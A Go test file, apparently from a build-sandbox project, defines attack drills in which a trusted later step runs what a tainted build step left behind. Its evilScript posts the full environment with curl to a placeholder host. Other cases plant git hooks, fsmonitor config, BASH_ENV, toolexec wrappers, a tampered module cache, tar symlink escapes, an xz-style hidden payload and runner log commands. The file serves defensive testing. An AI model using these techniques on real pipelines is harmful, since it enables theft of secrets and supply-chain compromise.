package drill

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"

	"github.com/sallyport/sallyport/internal/boundary"
)

// evilScript is what a later, trusted step is made to run: it sends off the
// environment of that step.
const evilScript = `#!/bin/sh
curl -sm2 -d "$(env)" http://@HTTP@/release >/dev/null 2>&1
echo BACKDOOR
`

// taken is a release canary that came out: a trusted step ran what a tainted one
// had left for it.
func taken(wall string) []Link {
	return []Link{{"a trusted step runs what the hostile one left", wall, Theft, func(w *World) bool { return w.stole(w.sinks.got("http/release"), Release) }}}
}

// returning is a case whose harm is done later, by what comes out of the step.
func returning(id, title, step, later string, links []Link) Case {
	return Case{Name: id, Tongue: "sh", Needs: []string{"curl"}, Files: map[string]string{"evil.sh": evilScript},
		Acts:    []Act{{Stages: []Stage{{Zone: boundary.Build, Command: ranStep(step)}}, Later: later}},
		Attacks: []Attack{{ID: id, Technique: id[:3], Title: title, Links: links}}}
}

// inPipeline is the same for a whole run: what is trusted later is the checkout.
func inPipeline(id, title, step, later string, links []Link) Case {
	c := returning(id, title, "mkdir -p dist; echo made >dist/app; "+step, later, links)
	c.Acts[0].Whole, c.Acts[0].Stages[0].Out = true, "dist/app"
	return c
}

// returnCases are the half of the boundary that acts later.
func returnCases() []Case {
	cases := []Case{
		patchedBuild(), moduleCache(), archiveOut(),
		returning("R22.cache", "cache that a release job restores", "printf '#!/bin/sh\\n. @SRC@/evil.sh\\n' >@CACHE@/bin/tsc", "PATH=@CACHE@/bin:$PATH tsc", taken(wallHandOn)),
		inPipeline("R22.tree", "tool in the tree that a release job restores", "mkdir -p node_modules/.bin; cp evil.sh node_modules/.bin/tsc", "test ! -e node_modules/.bin/tsc || sh node_modules/.bin/tsc", taken(wallHandOn)),
		returning("R25", "settings that stay in the home directory", "cp evil.sh tool; chmod +x tool; env -u GOFLAGS HOME=@HOME@ go env -w GOFLAGS=-toolexec=@SRC@/tool",
			"mkdir -p m && cd m && printf 'module m\\n' >go.mod && printf 'package main\\nfunc main() {}\\n' >main.go && env -u GOFLAGS go build", taken(wallFiles)),
		returning("R26", "environment file of the runner", `cp evil.sh rc.sh; echo BASH_ENV=@SRC@/rc.sh >>@RUNNER@/env`, "set -a; . @RUNNER@/env; bash -c true", taken(wallFiles)),
		returning("R28.tools", "tool directory that can be written", "cp evil.sh @TOOLS@/cc", "sh @TOOLS@/cc", taken(wallFiles)),
		inPipeline("R28.tree", "build script in the tree", "mkdir -p scripts; cp evil.sh scripts/release.sh", "sh scripts/release.sh", taken(wallSource)),
		survivor(), covert(),
	}
	cases = append(cases, gitCases()...)
	cases = append(cases, droppedCases()...)
	return append(cases, logCommands(returning), logCommands(inPipeline))
}

func gitCases() []Case {
	init := func(ctx context.Context, w *World) error {
		for _, args := range [][]string{{"init", "-q"}, {"config", "user.name", "a"}, {"config", "user.email", "a@b"}} {
			if _, err := w.command(ctx, &w.log, w.env(), append([]string{"git"}, args...)...); err != nil {
				return err
			}
		}
		return nil
	}
	const monitor = `printf '[core]\n\tfsmonitor = "sh @SRC@/evil.sh"\n' >>.git/config`
	const hook = `cp evil.sh .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`
	const commit = "git commit -q --allow-empty -m x"
	cases := []Case{
		returning("R23.exec", "git configuration that runs a program", monitor, "git status", taken(wallSource)),
		inPipeline("R23.run", "git configuration that runs a program", monitor, "git status", taken(wallSource)),
		returning("R24.exec", "git hook", hook, commit, taken(wallSource)),
		inPipeline("R24.run", "git hook", hook, commit, taken(wallSource)),
	}
	for i := range cases {
		cases[i].Prepare, cases[i].Needs = init, []string{"git", "curl"}
	}
	return cases
}

// droppedCases leave files in the checkout that others obey.
func droppedCases() []Case {
	appears := func(names ...string) []Link {
		var links []Link
		for _, n := range names {
			links = append(links, Link{"leaves " + n + " in the checkout", wallSource, Harm, func(w *World) bool { return w.has("src/"+n) && len(w.read("src/"+n)) > 0 }})
		}
		return links
	}
	const workflow = "mkdir -p .github/workflows; echo 'on: push' >.github/workflows/x.yml"
	const agents = "mkdir -p .claude .vscode; echo '{}' >.claude/settings.json; echo '{}' >.mcp.json; echo '{}' >.vscode/tasks.json"
	w, a := appears(".github/workflows/x.yml"), appears(".claude/settings.json", ".mcp.json", ".vscode/tasks.json")
	return []Case{
		returning("R29.exec", "workflow file that appears", workflow, "", w), inPipeline("R29.run", "workflow file that appears", workflow, "", w),
		returning("R30.exec", "settings of agents and editors", agents, "", a), inPipeline("R30.run", "settings of agents and editors", agents, "", a),
	}
}

// runnerCommand is what GitHub and Azure runners obey in a log.
var runnerCommand = regexp.MustCompile(`(?m)^\s*::(add-path|set-env|set-output|stop-commands)\b|##vso\[|##\[`)

func logCommands(make func(id, title, step, later string, links []Link) Case) Case {
	c := make("R33.exec", "commands to the runner, in the log", `echo '::add-path::@SRC@'; echo 'x ##vso[task.setvariable variable=PATH]@SRC@'`, "", []Link{
		{"the log carries commands that a runner obeys", wallLog, Harm, func(w *World) bool { return runnerCommand.Match(w.log.Bytes()) }}})
	if c.Acts[0].Whole {
		c.Name, c.Attacks[0].ID = "R33.run", "R33.run"
	}
	return c
}

// survivor leaves a process behind that changes the source after it was checked.
func survivor() Case {
	return returning("R27", "process that survives and swaps the source",
		`setsid sh -c 'while test -e @DIR@/out; do sleep 0.05; echo BACKDOOR >main.txt; done' >/dev/null 2>&1 </dev/null & sleep 0.1`,
		"echo clean >main.txt; sleep 0.4; cp main.txt product.txt",
		[]Link{{"changes the source after its check", wallEnd, Harm, func(w *World) bool { return bytes.Contains(w.read("src/product.txt"), []byte("BACKDOOR")) }}})
}

// covert signals by its exit code: whoever can see that a build failed learns one
// bit, and there is no build without that.
func covert() Case {
	c := returning("R34", "covert channel: exit code", "exit 75", "", []Link{
		{"sends a byte by its exit code", "", Bound, func(w *World) bool { return slices.Contains(w.codes, 75) }}})
	c.Attacks[0].Bounds = "one byte for each run, which the record shows; the zone holds no secret for it to carry"
	return c
}

// patchedBuild hides its payload in test data, and the build scripts put it into
// the source, as in xz.
func patchedBuild() Case {
	c := inPipeline("R08", "payload in test data, the build patches the source",
		`tail -c +5 tests/bad.bin | base64 -d >>main.txt; cp main.txt dist/app`, "",
		[]Link{{"the artifact holds what the source does not", "SP7: a build that rewrites its source gets no verdict", Harm,
			func(w *World) bool { return bytes.Contains(w.artifacts(), []byte("BACKDOOR")) }}})
	c.Files = map[string]string{"main.txt": "program\n", "tests/bad.bin": "xz\x00\x01QkFDS0RPT1IK"}
	return c
}

// archiveOut hands on an archive and a link that write elsewhere when unpacked.
func archiveOut() Case {
	const pack = `mkdir -p dist/app; ln -s @OUTSIDE@ dist/app/esc; /usr/bin/python3 -c "
import tarfile, io
t = tarfile.open('dist/app/a.tar', 'w')
i = tarfile.TarInfo('esc'); i.type = tarfile.SYMTYPE; i.linkname = '@OUTSIDE@'; t.addfile(i)
i = tarfile.TarInfo('esc/file'); i.size = 9; t.addfile(i, io.BytesIO(b'BACKDOOR\n'))
t.close()"`
	c := inPipeline("R32", "archive and link that lead out of their folder", "true", "", []Link{
		{"writes outside of where it is unpacked", "links that leave a tree are refused; archives are read, not unpacked", Harm,
			func(w *World) bool { return bytes.Contains(w.read("outside/file"), []byte("BACKDOOR")) }}})
	c.Acts[0].Stages[0].Command = ranStep(pack)
	c.Needs = []string{"/usr/bin/python3"}
	c.Acts[0].Release = `/usr/bin/python3 -c "import tarfile; tarfile.open('@SRC@/dist/app/a.tar').extractall('@DIR@/unpacked')"`
	return c
}

// moduleCache changes a module where it lies unpacked: go build does not look at
// its checksum again.
func moduleCache() Case {
	c := returning("R21", "module cache that is tampered with",
		`d=@CACHE@/mod/dep.example/x@v1.0.0; chmod -R u+w $d; printf 'func init() { println("BACKDOOR") }\n' >>$d/x.go`,
		"GOFLAGS=-mod=mod GOMODCACHE=@CACHE@/mod go build -o product . && ./product >product.txt 2>&1",
		[]Link{{"a trusted build compiles what was put there", "caches are written by the controller alone", Harm,
			func(w *World) bool { return bytes.Contains(w.read("src/product.txt"), []byte("BACKDOOR")) }}})
	c.Needs = []string{"go"}
	c.Files = map[string]string{"go.mod": "module victim.example/v\n\ngo 1.21\n\nrequire dep.example/x v1.0.0\n",
		"main.go": "package main\n\nimport _ \"dep.example/x\"\n\nfunc main() {}\n"}
	c.Prepare = func(ctx context.Context, w *World) error {
		proxy := filepath.Join(w.Dir, "proxy")
		if err := fileProxy(proxy, "dep.example/x", "v1.0.0", "package x\n"); err != nil {
			return err
		}
		_, err := w.command(ctx, &w.log, w.env("GOPROXY=file://"+proxy, "GOMODCACHE="+filepath.Join(w.Cache, "mod"), "GOFLAGS=-mod=mod -modcacherw"), "go", "mod", "tidy")
		return err
	}
	return c
}

// fileProxy is a module proxy as a folder, with one module in it.
func fileProxy(dir, module, version, source string) error {
	at := filepath.Join(dir, module, "@v")
	z, err := moduleZip(module, version, source)
	if err != nil {
		return err
	}
	if err := os.MkdirAll(at, 0o755); err != nil {
		return err
	}
	for name, text := range map[string]string{"list": version + "\n", version + ".mod": "module " + module + "\n", version + ".zip": string(z),
		version + ".info": fmt.Sprintf(`{"Version":%q,"Time":"2024-01-01T00:00:00Z"}`, version)} {
		if err := os.WriteFile(filepath.Join(at, name), []byte(text), 0o644); err != nil {
			return err
		}
	}
	return nil
}
